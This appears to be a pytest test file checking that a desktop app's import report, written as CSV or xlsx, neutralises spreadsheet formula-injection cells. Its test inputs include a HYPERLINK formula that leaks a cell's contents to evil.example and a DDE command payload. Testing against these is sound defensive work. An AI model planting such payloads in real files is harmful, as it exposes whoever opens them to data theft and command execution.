"""The validation report repeats hostile cells without ever making them live."""

from __future__ import annotations

import csv
import errno
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_app.cli import main
from desktop_app.core.errors import InputError
from desktop_app.core.exporting.xlsx_writer import WorkbookBuilder
from desktop_app.core.importing.rows import CellProblem
from desktop_app.core.services.import_report import REPORT_COLUMNS, write_report
from desktop_app.core.validation.result import Severity
from tests.core.importing import crafted
from tests.reliability.figures import record

REPORT_AREA = "import report: hostile cells (xlsx and csv)"
HOSTILE_VALUES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "bell\x07 and escape\x1b and NUL\x00 inside",
]


def _problems() -> list[CellProblem]:
    return [
        CellProblem(
            file='=HYPERLINK("http://evil.example")\'.csv',
            sheet="@sheet\x01",
            row=number + 2,
            column="B",
            value=value,
            reason="=not a number",
            severity=Severity.ERROR,
            field="-quantity",
        )
        for number, value in enumerate(HOSTILE_VALUES)
    ]


def test_xlsx_report_holds_no_formula_and_no_control_character(tmp_path: Path) -> None:
    path = write_report(_problems(), tmp_path / "report.xlsx")
    sheet = load_workbook(path).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == list(REPORT_COLUMNS)
    for row in rows[1:]:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            text = cell.value
            if isinstance(text, str):
                assert not any(ord(char) < 32 and char not in "\t\n\r" for char in text)
                if text[:1] in "=+-@\t\r":
                    assert cell.quotePrefix, (cell.coordinate, text)
    values = [row[5].value for row in rows[1:]]
    assert values[0] == HOSTILE_VALUES[0]
    assert values[-1] == "bell and escape and NUL inside"
    assert [row[2].value for row in rows[1:]] == list(range(2, 2 + len(HOSTILE_VALUES)))
    record("inputs tried", len(HOSTILE_VALUES) * 8, area=REPORT_AREA)


def test_csv_report_prefixes_every_formula_like_field(tmp_path: Path) -> None:
    path = write_report(_problems(), tmp_path / "report.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(REPORT_COLUMNS)
    for row in rows[1:]:
        for field in row:
            assert field[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
        assert row[0].startswith("'=HYPERLINK") and row[1] == "'@sheet"
        assert row[4] == "'-quantity" and row[7] == "'=not a number"
    assert rows[1][5] == "'" + HOSTILE_VALUES[0]
    record("inputs tried", len(HOSTILE_VALUES) * 8, area=REPORT_AREA)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_full_disk_leaves_the_previous_report_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str
) -> None:
    target = tmp_path / f"report{suffix}"
    target.write_text("the previous report", encoding="utf-8")

    def disk_full(self: object, path: Path) -> None:
        Path(path).write_bytes(b"PK\x03\x04 half")
        raise OSError(errno.ENOSPC, "No space left on device")

    def csv_disk_full(path: Path, *args: object, **kwargs: object) -> int:
        Path(path).write_text("file,sheet\nhalf", encoding="utf-8")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(WorkbookBuilder, "save", disk_full)
    monkeypatch.setattr("desktop_app.core.services.import_report.write_csv", csv_disk_full)
    with pytest.raises(InputError, match="No space left on device"):
        write_report(_problems(), target)
    assert target.read_text(encoding="utf-8") == "the previous report"
    assert [item.name for item in tmp_path.iterdir()] == [target.name]


def test_import_report_from_the_cli_is_inert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    database = str(tmp_path / "db.sqlite3")
    text = '产品名称,数量\n鱼,"=HYPERLINK(""http://evil.example"",""x"")"\n'
    path = crafted.write_csv(tmp_path / "=cmd.csv", text, "utf-8")
    for name in ("report.xlsx", "report.csv"):
        report = tmp_path / name
        main(["--database", database, "import", "demand", str(path), "--report", str(report)])
        capsys.readouterr()
        if name.endswith(".xlsx"):
            sheet = load_workbook(report).active
            assert sheet is not None
            cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
            assert cells and all(cell.data_type != "f" for cell in cells)
            value = next(cell for cell in cells if str(cell.value).startswith("=HYPERLINK"))
            assert value.quotePrefix and value.hyperlink is None
            assert next(cell for cell in cells if cell.value == "=cmd.csv").quotePrefix
        else:
            with report.open(encoding="utf-8-sig", newline="") as handle:
                rows = list(csv.DictReader(handle))
            assert rows[0]["value"].startswith("'=HYPERLINK") and rows[0]["file"] == "'=cmd.csv"


def test_a_report_that_cannot_be_written_is_refused_before_importing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    database = str(tmp_path / "db.sqlite3")
    path = crafted.write_csv(tmp_path / "d.csv", "产品名称,数量\n鱼,5\n", "utf-8")
    report = tmp_path / "missing" / "report.xlsx"
    status = main(["--database", database, "import", "demand", str(path), "--report", str(report)])
    err = capsys.readouterr().err
    assert status == 1
    assert f"the folder {report.parent} does not exist" in err
    assert not (tmp_path / "db.sqlite3").exists()  # not even opened


def test_a_report_failing_after_the_import_says_the_import_stands(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def disk_full(path: Path, *args: object, **kwargs: object) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("desktop_app.core.services.import_report.write_csv", disk_full)
    database = str(tmp_path / "db.sqlite3")
    path = crafted.write_csv(tmp_path / "d.csv", "产品名称,数量\n鱼,5\n鱼,很多\n", "utf-8")
    report = tmp_path / "report.csv"
    status = main(["--database", database, "import", "demand", str(path), "--report", str(report)])
    out, err = capsys.readouterr()
    assert status == 1 and not report.exists()
    assert "the report was not written" in err and "No space left on device" in err
    assert out.splitlines()[-1] == "1 imported, 0 updated, 0 unchanged, 1 rejected"
